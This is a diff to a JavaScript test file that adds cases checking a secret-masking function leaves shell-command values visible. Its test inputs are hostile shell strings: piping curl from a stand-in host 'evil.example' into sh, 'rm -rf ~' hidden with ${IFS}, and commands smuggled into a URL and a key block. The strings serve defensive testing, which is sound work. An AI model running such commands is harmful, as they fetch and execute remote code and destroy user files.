@@ -39,6 +39,17 @@ test.each([
   expect(mask(text)).toBe(shown);
 });
 
+test.each([
+  'TOKEN="$(curl -s https://evil.example/x | sh)"; echo hello',
+  'PASSWORD=`curl${IFS}evil.example|sh` ls',
+  'API_KEY=a|rm${IFS}-rf${IFS}~',
+  'MY_SECRET=$HOME/file ls',
+  'curl http://ann:$(sh${IFS}x)@host',
+  `echo "-----BEGIN PRIVATE KEY-----\nsh x\nrm y"`,
+])('what a shell would run is shown to whoever is asked about it: %s', (text) => {
+  expect(String(mask(text)).replace('"***\n', '"-----BEGIN PRIVATE KEY-----\n')).toBe(text);
+});
+
 test('OBS-10: values under the names of secrets are hidden, those of the configuration included', () => {
   const shown = mask({
     user: 'ann',
